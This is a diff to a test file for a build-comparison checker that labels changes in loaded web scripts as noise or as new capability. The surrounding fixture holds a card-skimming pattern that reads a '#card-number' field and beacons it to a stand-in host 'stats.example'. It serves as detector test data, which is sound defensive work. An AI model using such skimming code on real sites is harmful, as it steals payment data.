@@ -71,6 +71,15 @@ describe('noise', () => {
     expect(verdict(before, after)).toBe('rebuild')
   })
 
+  it('that names the files which it loads by their new hashes is no news; the name of another file is', () => {
+    const loads = (cart: string, money: string) => `const deps=["assets/${cart}.js","assets/${money}.js"];import("./${cart}.js");go(deps)`
+    const before = loads('cart-KestRelo', 'money-Bx1zQkWm')
+    expect(verdict(before, loads('cart-Dh1qRtzP', 'money-BoldPine'))).toBe('volatile')
+    expect(verdict(before, loads('cart-Dh1qRtzP', 'collect-Bx1zQkWm'))).toBe('capability')
+    expect(verdict(before, loads('collect-Dh1qRtzP', 'money-Bx1zQkWm'))).toBe('capability')
+    expect(verdict('a.src = "/gtm.js?id=" + i', 'a.src = "/gtm-beta.js?id=" + i')).toBe('capability')
+  })
+
   it('a new timer with an unknown function in another build of a program is no news, a new flow is', () => {
     const send = (what: string) =>
       `function a(f) { var safe = document.querySelector("#q").value, own = document.querySelector("#card-number").value; s("https://stats.example/?" + ${what}) } function s(u) { new Image().src = u }`
